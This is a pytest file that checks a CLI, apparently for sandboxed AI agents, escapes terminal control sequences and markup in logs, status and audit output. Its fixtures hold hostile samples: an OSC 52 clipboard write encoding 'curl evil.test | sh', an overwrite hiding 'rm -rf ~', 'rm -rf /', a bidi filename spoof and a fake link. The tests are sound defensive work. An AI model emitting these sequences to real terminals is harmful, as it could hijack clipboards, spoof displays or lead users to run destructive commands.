"""The agent's control sequences and markup reach the user's terminal as visible text, never as
commands; ``--raw`` keeps the bytes for scripts."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kapsis.audit import AuditLog
from kapsis.backends.transcript import TranscriptPump
from kapsis.cli.app import app
from kapsis.secrets.redact import Redactor
from kapsis.status import AgentStatus, StatusStore
from kapsis.status.store import utc_now
from kapsis.terminal import shown

CLEAR_SCREEN = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07"  # OSC 52: write the clipboard
TITLE = "\x1b]0;kapsis: all good\x9c"  # C1 string terminator
C1_CSI = "\x9b31m"
OVERWRITE = "rm -rf ~\rls     "
BIDI = "safe\u202etxt.exe"
MARKUP = "[link=https://evil.test]click[/link] [bold red]FAKE[/]"
HOSTILE = [CLEAR_SCREEN, CLIPBOARD, TITLE, C1_CSI, OVERWRITE, BIDI]


@pytest.mark.parametrize("attack", HOSTILE)
def test_every_control_character_is_escaped_visibly(attack: str) -> None:
    text = shown(attack)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in text)
    assert "\u202e" not in text
    assert "\\x" in text or "\\u" in text


def test_ordinary_text_tabs_and_unicode_are_kept() -> None:
    text = "héllo\twörld ✓ 日本語 [not markup]"
    assert shown(text) == text


def test_newlines_are_escaped_in_one_line_fields_and_kept_where_asked() -> None:
    assert shown("a\nb") == "a\\x0ab"
    assert shown("a\nb\rc", keep_newlines=True) == "a\nb\\x0dc"


def test_the_work_is_linear_in_the_input() -> None:
    """One pass: a megabyte of escapes becomes four megabytes of text, no more."""
    assert len(shown("\x1b" * 1_000_000)) == 4_000_000


# ---------------------------------------------------------------------------------------------
# the commands


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


def _status(agent_id: str, message: str) -> None:
    now = utc_now()
    StatusStore().write(
        AgentStatus(
            agent_id=agent_id,
            project="/p",
            branch="kapsis/" + CLEAR_SCREEN,
            backend="podman",
            agent="shell",
            phase="failed",
            message=message,
            started_at=now,
            updated_at=now,
            limits_enforced=True,
            network_mode="none",
            security_profile="standard",
        )
    )


def _transcript(kapsis_home: Path, agent_id: str, lines: list[str]) -> None:
    logs = kapsis_home / "logs"
    logs.mkdir(parents=True, exist_ok=True)
    records = [f"2026-01-01T00:00:00.000000000+00:00 stdout F {line}\n" for line in lines]
    (logs / f"{agent_id}.log").write_text("".join(records))


def test_logs_escape_the_agent_s_sequences_and_raw_keeps_them(
    runner: CliRunner, kapsis_home: Path
) -> None:
    _status("t1", "done")
    _transcript(kapsis_home, "t1", [CLIPBOARD, CLEAR_SCREEN + "hello", OVERWRITE])

    escaped = runner.invoke(app, ["logs", "t1"])
    raw = runner.invoke(app, ["logs", "t1", "--raw"])

    assert escaped.exit_code == 0, escaped.output
    assert "\x1b" not in escaped.output and "\r" not in escaped.output
    assert "\\x1b]52;c;" in escaped.output and "hello" in escaped.output
    assert raw.exit_code == 0
    assert CLIPBOARD in raw.output and CLEAR_SCREEN + "hello" in raw.output  # control


def test_status_shows_markup_and_sequences_as_text(runner: CliRunner, kapsis_home: Path) -> None:
    _status("t2", MARKUP + CLEAR_SCREEN + TITLE)

    result = runner.invoke(app, ["status"], env={"COLUMNS": "400"})

    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9c" not in result.output
    assert "[link=https://evil.test]click[/link]" in result.output  # not read as markup
    assert "[bold red]FAKE[/]" in result.output
    json_output = runner.invoke(app, ["status", "t2", "--json"])
    assert json.loads(json_output.output)["message"] == MARKUP + CLEAR_SCREEN + TITLE


def test_audit_show_escapes_what_the_agent_reported_and_raw_keeps_it(
    runner: CliRunner, kapsis_home: Path
) -> None:
    _status("t3", "done")
    log = AuditLog("t3")
    log.record("session_start", project="/p")
    log.record("agent_command", source="agent", command=CLEAR_SCREEN + MARKUP + BIDI)
    log.close()

    table = runner.invoke(app, ["audit", "show", "t3"], env={"COLUMNS": "400"})
    raw = runner.invoke(app, ["audit", "show", "t3", "--raw"])

    assert table.exit_code == 0, table.output
    assert "\x1b" not in table.output and "\u202e" not in table.output
    assert "[bold red]FAKE[/]" in table.output and "\\u202e" in table.output
    assert raw.exit_code == 0
    assert CLEAR_SCREEN + MARKUP + BIDI in raw.output  # control: the bytes, for scripts


def test_alerts_escape_the_evidence(runner: CliRunner, kapsis_home: Path) -> None:
    _status("t4", "done")
    AuditLog("t4").record("session_start", project="/p")
    alerts = kapsis_home / "audit" / "t4.alerts.jsonl"
    alerts.parent.mkdir(parents=True, exist_ok=True)
    alert = {
        "seq": 2,
        "severity": "high",
        "rule": "mass_deletion",
        "message": "rm -rf",
        "evidence": CLEAR_SCREEN + "rm -rf / " + MARKUP,
    }
    alerts.write_text(json.dumps(alert) + "\n")

    result = runner.invoke(app, ["audit", "alerts", "t4"], env={"COLUMNS": "400"})

    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "[bold red]FAKE[/]" in result.output


def test_an_error_message_is_one_visible_line(runner: CliRunner) -> None:
    result = runner.invoke(app, ["logs", "no-such\x1b[2J\nagent"])
    assert result.exit_code == 2
    assert "\x1b" not in result.output and result.output.count("\n") == 1


def test_the_foreground_echo_escapes_the_agent_s_sequences(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo, transcript = tmp_path / "log.fifo", tmp_path / "transcript.log"
    pump = TranscriptPump.open(fifo, transcript, Redactor(()), echo=True).start()
    with open(fifo, "w") as conmon:
        conmon.write(f"T1 stdout F {CLIPBOARD}hello\n")
    pump.finish()

    echoed = capsys.readouterr().out
    assert "\x1b" not in echoed and "\\x1b]52;c;" in echoed and "hello" in echoed
    assert CLIPBOARD in transcript.read_text()  # the file keeps the bytes (logs --raw)


def test_audit_show_streams_a_long_chain_and_a_broken_line_does_not_stop_it(
    runner: CliRunner, kapsis_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kapsis.cli import render

    _status("t6", "done")
    log = AuditLog("t6")
    log.record("session_start", project="/p")
    for index in range(25):
        log.record("step", index=index)
    log.close()
    path = kapsis_home / "audit" / "t6.jsonl"
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines[:5]) + b"{not json\n" + b"".join(lines[5:]))
    monkeypatch.setattr(render, "AUDIT_ROWS_PER_TABLE", 10)

    shown = runner.invoke(app, ["audit", "show", "t6"], env={"COLUMNS": "200"})
    as_json = runner.invoke(app, ["audit", "show", "t6", "--json"])

    assert shown.exit_code == 0, shown.output
    assert shown.output.count("SEQ") == 3  # 28 rows, 10 to a table: nothing held whole
    assert "unreadable" in shown.output
    records = json.loads(as_json.output)
    assert len(records) == len(lines) + 1
    assert records[5]["event_type"] == "unreadable" and records[6]["seq"] == 6
